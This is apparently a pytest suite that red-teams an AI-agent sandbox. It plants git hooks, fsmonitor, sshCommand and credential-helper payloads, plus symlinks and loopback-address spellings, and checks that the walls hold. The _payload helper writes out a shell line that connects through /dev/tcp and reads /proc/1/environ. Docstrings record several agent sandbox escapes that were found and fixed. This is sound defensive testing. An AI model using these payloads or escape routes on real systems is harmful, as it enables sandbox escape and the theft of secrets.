"""Red-team attacks on the walls of issue 13, through the public surface.

Each test is an agent (WS) doing what a hostile agent would; the assertion
is the wall: the sentinel unread and unchanged, the secret unread, the
loopback listener never reached, the daemon responsive. Attacks that found
a way out are marked "escape"; the rest document walls that held.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

from tests.security.conftest import Arena
from tests.security.test_sandbox_walls import MARK, assert_contained, daemon_inside, start_bash
from tests.transports.kit import AgentClient


async def _settle() -> None:
    # A connection the payload made is accepted on this loop: let it run
    # before the listener's count is read. A few loop turns, not a wait for an
    # event: what is asserted next is an absence (no hit), which nothing announces.
    for _ in range(5):
        await asyncio.sleep(0.02)


def _ok(reply: dict[str, Any]) -> dict[str, Any]:
    assert reply["type"] == "tool_result" and reply["ok"], reply
    return reply["result"]


def _payload(arena: Arena, name: str) -> str:
    """A shell program that records it ran (``<name>.ran`` in the
    workspace), then tries the loopback listener and the daemon's
    environment."""
    port = arena.listener_port
    out = arena.workspace / f"{name}.ran"
    # bash, not sh: git runs these with /bin/sh, which has no /dev/tcp.
    return (
        f"bash -c 'echo ran > {out}; (echo x > /dev/tcp/127.0.0.1/{port}) 2>/dev/null"
        f" && echo connected >> {out}; cat /proc/1/environ >> {out} 2>/dev/null'; true"
    )


async def _plant_repository(
    arena: Arena, agent: AgentClient, config: dict[str, str], hooks: dict[str, str]
) -> None:
    """proof's bash (full-codebase) makes the workspace a repository and
    plants ``config`` keys and executable ``hooks``."""
    await start_bash(arena, agent, "proof")
    lines = [
        "git init -q -b main .",
        "git config user.email a@example.org",
        "git config user.name agent",
        "git add -A",
        "git commit -qm init",
    ]
    for key, value in config.items():
        quoted = value.replace("'", "'\\''")
        lines.append(f"git config '{key}' '{quoted}'")
    for hook, body in hooks.items():
        path = f".git/hooks/{hook}"
        quoted = body.replace("'", "'\\''")
        lines.append(f"printf '#!/bin/sh\\n%s\\n' '{quoted}' > {path} && chmod +x {path}")
    lines.append(f"echo {MARK}")
    assert_contained(arena, await arena.tool(agent, "bash", " && ".join(lines)))


# ------------------------------------------------------------------ escape: deploy's network


async def test_a_planted_git_program_gets_no_network_in_deploy(arena: Arena) -> None:
    """Escape (found): deploy's sandbox shared the host network with every
    git process, so an fsmonitor or hook that proof planted in .git ran
    on ``git status``/``commit`` with loopback in reach. Only a push to a
    network remote gets the network now."""
    async with arena.agent() as agent:
        await _plant_repository(
            arena,
            agent,
            {"core.fsmonitor": _payload(arena, "fsmonitor")},
            {"pre-commit": _payload(arena, "pre-commit")},
        )
    async with arena.agent() as agent:
        await arena.start(agent, "deploy")
        (arena.workspace / "README.md").write_text("changed\n")
        for command in ("git status", "git add README.md", "git commit -m change"):
            result = _ok(await arena.tool(agent, "bash-git", command))
            arena.assert_no_secret(result)
    await _settle()
    # The planted programs did run (git runs them; the sandbox holds them).
    for name in ("fsmonitor", "pre-commit"):
        ran = (arena.workspace / f"{name}.ran").read_text()
        assert ran.startswith("ran") and "connected" not in ran, ran
        arena.assert_no_secret(ran)
    arena.assert_walls_held()


async def test_a_networked_push_runs_nothing_the_workspace_configured(arena: Arena) -> None:
    """Escape (found): a push runs with the network, and it ran the
    workspace's core.sshCommand (and, once a remote answers, its pre-push
    hook and credential helper) with it. A networked push sees a vetted
    .git/config and no hooks."""
    ws = arena.workspace
    config = {
        "core.fsmonitor": _payload(arena, "fsmonitor"),
        "core.sshCommand": _payload(arena, "ssh"),
        # ssh: git runs core.sshCommand at once (nothing listens on port 9)
        "remote.origin.url": "ssh://git@127.0.0.1:9/repo.git",
        "remote.origin.receivepack": _payload(arena, "receivepack"),
        "credential.helper": "!" + _payload(arena, "credential"),
        f"url.ext::touch {ws / 'ext.ran'}.insteadOf": "http://127.0.0.1:9/",
    }
    async with arena.agent() as agent:
        await _plant_repository(arena, agent, config, {"pre-push": _payload(arena, "pre-push")})
    async with arena.agent() as agent:
        await arena.start(agent, "deploy")
        result = _ok(await arena.tool(agent, "bash-git", "git push origin main"))
        arena.assert_no_secret(result)
        assert result["exit"] != 0  # nothing listens on port 9
    await _settle()
    ran = sorted(p.name for p in ws.glob("*.ran"))
    assert ran == [], f"planted programs ran with the network: {ran}"
    arena.assert_walls_held()


async def test_a_push_to_a_local_remote_gets_no_network(arena: Arena) -> None:
    """The remote repository's own hooks run on a local push: with no
    network."""
    ws = arena.workspace
    async with arena.agent() as agent:
        await _plant_repository(arena, agent, {}, {})
        planted = (
            f"git init -q --bare remote.git && git remote add origin {ws}/remote.git && echo {MARK}"
        )
        assert_contained(arena, await arena.tool(agent, "bash", planted))
    hook = ws / "remote.git" / "hooks" / "post-receive"
    hook.write_text(f"#!/bin/sh\n{_payload(arena, 'post-receive')}\n")
    hook.chmod(0o755)
    async with arena.agent() as agent:
        await arena.start(agent, "deploy")
        result = _ok(await arena.tool(agent, "bash-git", "git push origin main"))
        assert result["exit"] == 0, result
    await _settle()
    ran = (ws / "post-receive.ran").read_text()
    assert ran.startswith("ran") and "connected" not in ran, ran
    arena.assert_walls_held()


# ------------------------------------------------------------------ escape: domain tools reading files


async def test_corpus_check_does_not_follow_a_symlink_out_of_the_corpus(arena: Arena) -> None:
    """Escape (found): corpus-check read its folder with plain opens, so a
    symlink planted there (by proof's bash) returned the sentinel's text
    as an excerpt. It reads beneath the corpus folder now."""
    notes = arena.workspace / "notes"
    notes.mkdir()
    (notes / "ok.md").write_text("the walls are tall\n")
    (notes / "leak.md").symlink_to(arena.sentinel)
    (notes / "deep").symlink_to(arena.outside, target_is_directory=True)
    arena.daemon.runner.peripheral("mission").spec.config["corpus_dir"] = "notes"
    async with arena.agent() as agent:
        await arena.start(agent, "mission")
        _ok(await arena.tool(agent, "obligation-upsert", "M1", "O1", {"status": "open"}))
        _ok(await arena.tool(agent, "cycle-begin", "M1", "O1"))
        result = _ok(await arena.tool(agent, "corpus-check", "walls held"))
    sources = [hit["source"] for hit in result["hits"]]
    assert sources == ["ok.md:1"], result
    arena.assert_no_secret(result)
    arena.assert_walls_held()


async def test_mission_control_never_reads_futons_own_files(tmp_path: Path) -> None:
    """Escape (found): with the config folder inside the workspace, a
    mission file symlinked to peripherals.yaml was parsed and its first
    line came back as the mission's title."""
    async with daemon_inside(tmp_path) as (arena, cfg):
        missions = arena.workspace / "holes" / "missions"
        missions.mkdir(parents=True)
        (missions / "M-ok.md").write_text("# Fine\nstatus: ready\n")
        (missions / "M-config.md").symlink_to(cfg / "peripherals.yaml")
        (missions / "M-futon.md").symlink_to(cfg / "futon.yaml")
        async with arena.agent() as agent:
            await arena.start(agent, "mission-control")
            result = _ok(await arena.tool(agent, "mc-inventory"))
    text = str(result)
    assert "Fine" in text  # the survey ran
    assert "peripherals.yaml" not in text.replace("M-config", "") or "capability" not in text, (
        result
    )
    assert "futon.yaml —" not in text and "capability envelopes" not in text, result


# ------------------------------------------------------------------ walls that held


async def test_web_fetch_never_reaches_loopback(arena: Arena) -> None:
    """Held: every spelling of the loopback listener is refused before a
    connection (decimal, short, IPv4-mapped IPv6, 0.0.0.0, a name)."""
    port = arena.listener_port
    hosts = [
        "127.0.0.1",
        "2130706433",
        "127.1",
        "0x7f.0.0.1",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "0.0.0.0",
        "localhost",
    ]
    async with arena.agent() as agent, arena.responsive():
        await arena.start(agent, "explore")
        for host in hosts:
            reply = _ok_or_error(await arena.tool(agent, "web-fetch", f"http://{host}:{port}/"))
            assert not reply.get("ok"), (host, reply)
    await _settle()
    arena.assert_walls_held()


def _ok_or_error(reply: dict[str, Any]) -> dict[str, Any]:
    assert reply["type"] in ("tool_result", "error"), reply
    return reply
